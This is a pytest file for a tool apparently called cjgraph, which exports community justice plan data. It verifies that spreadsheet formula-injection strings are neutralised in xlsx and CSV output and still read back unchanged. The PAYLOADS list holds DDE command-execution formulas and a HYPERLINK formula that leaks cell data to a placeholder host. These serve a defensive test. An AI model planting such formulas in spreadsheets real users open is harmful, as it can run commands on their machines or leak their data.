"""Plan text never becomes a live formula in what cjgraph writes, and comes back unchanged
(issue 9): every .xlsx has 0 formula cells, every CSV 0 text cells beginning like a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from cjgraph.cells import FORMULA_START, from_csv_text
from cjgraph.cli import main
from cjgraph.workbook import read_plan, write_plan

PAYLOADS = [
    "=1+cmd|' /C calc'!A0",
    '=0+HYPERLINK("http://example.invalid/?leak="&B2,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=2",
    "'=already quoted",
]

PLAN = """Fife Community Justice Outcomes Improvement Plan 2019 - 2022

Structural Outcome 3

Effective interventions are delivered to prevent and reduce the risk of further offending

Ref\tImprovement Action\tLead Partner\tTimescale
""" + "".join(f"SO3.{i}\t{p}\tPolice Scotland\tJune 2020\n" for i, p in enumerate(PAYLOADS, start=1))


def _run(*args: str) -> str:
    r = CliRunner().invoke(main, list(args))
    assert r.exit_code == 0, r.output
    return r.output


@pytest.fixture()
def plan_txt(tmp_path: Path) -> Path:
    path = tmp_path / "fife.txt"
    path.write_text(PLAN, encoding="utf-8")
    return path


def _formula_cells(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        return sum(z.read(n).count(b"<f>") + z.read(n).count(b"<f ") for n in z.namelist() if n.endswith(".xml"))


def _live_csv_cells(folder: Path) -> tuple[int, int]:
    """(cells beginning like a formula that are not plain numbers, cells read) in every CSV under ``folder``."""
    live = total = 0
    for path in folder.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for c in row:
                total += 1
                if c[:1] in FORMULA_START and not c.lstrip("+-").replace(".", "", 1).isdigit():
                    live += 1
    return live, total


def test_extracted_workbook_has_no_formula_and_reads_back_the_text(tmp_path: Path, plan_txt: Path) -> None:
    out = tmp_path / "fife.xlsx"
    _run("extract", str(plan_txt), "--out", str(out), "-q")
    assert _formula_cells(out) == 0
    ws = load_workbook(out)["actions"]
    texts = [ws.cell(r, 3).value for r in range(2, 2 + len(PAYLOADS))]
    assert texts == PAYLOADS
    assert all(ws.cell(r, 3).data_type == "s" for r in range(2, 2 + len(PAYLOADS)))
    assert [a.text for a in read_plan(out).actions] == PAYLOADS
    r = CliRunner().invoke(main, ["validate", str(out)])
    assert "0 errors" in r.output


def test_every_csv_writer_neutralises_and_round_trips(tmp_path: Path, plan_txt: Path) -> None:
    folder = tmp_path / "fife"
    _run("extract", str(plan_txt), "--out", str(folder), "-q")
    _run("export", str(folder), "--format", "csv", "--out", str(tmp_path / "graph"))
    _run("export", str(folder), "--format", "neo4j-import", "--out", str(tmp_path / "import"))
    (tmp_path / "answers").mkdir()
    for question in ("lead-load", "gaps", "timeline", "chains"):
        text = _run(question, str(folder), "--format", "csv")
        (tmp_path / "answers" / f"{question}.csv").write_text(text, encoding="utf-8")
    live, total = _live_csv_cells(tmp_path)
    assert (live, total > 200) == (0, True)
    # what cjgraph wrote, cjgraph reads back as it was
    assert [a.text for a in read_plan(folder).actions] == PAYLOADS
    nodes = (tmp_path / "graph" / "nodes.csv").read_text(encoding="utf-8")
    assert sum(from_csv_text(c) in PAYLOADS for row in csv.reader(io.StringIO(nodes)) for c in row) == len(PAYLOADS)
    restore = (tmp_path / "import" / "restore.cypher").read_text(encoding="utf-8")
    assert restore.count("SET x.`text` = ") == len(PAYLOADS)  # "'=…" gets one more ' too, so it is set back
    assert "restore.cypher" in (tmp_path / "import" / "import.txt").read_text(encoding="utf-8")


def test_report_workbook_has_no_formula(tmp_path: Path) -> None:
    from cjgraph.model import Action, Partner, Plan, PlanInfo

    names = [p.replace("|", "/") for p in PAYLOADS]  # " | " separates names in a workbook cell
    plan = Plan(
        PlanInfo(id="fife-2019-2022", partnership="Fife"),
        actions=tuple(
            Action(f"A{i}", "access", p, leads=(n,)) for i, (p, n) in enumerate(zip(PAYLOADS, names, strict=True))
        ),
        partners=tuple(Partner(n, kind="third-sector") for n in names),
    )
    write_plan(plan, tmp_path / "fife.xlsx")
    _run("report", str(tmp_path / "fife.xlsx"), "--out", str(tmp_path / "pack"))
    assert _formula_cells(tmp_path / "pack" / "report.xlsx") == 0
    ws = load_workbook(tmp_path / "pack" / "report.xlsx")["lead_load"]
    assert {c.value for row in ws.iter_rows() for c in row} >= set(names)


def test_carriage_return_and_tab_round_trip(tmp_path: Path) -> None:
    from cjgraph.model import Action, Plan, PlanInfo

    texts = ["first\rsecond", "\t=tabbed", "x\r\ny", "''=two quotes"]
    plan = Plan(PlanInfo(id="t"), actions=tuple(Action(f"A{i}", "access", t) for i, t in enumerate(texts)))
    write_plan(plan, tmp_path / "t")
    back = read_plan(tmp_path / "t")
    assert len(back.actions) == len(texts)
    assert [a.text for a in back.actions] == ["first\rsecond", "=tabbed", "x\r\ny", "''=two quotes"]
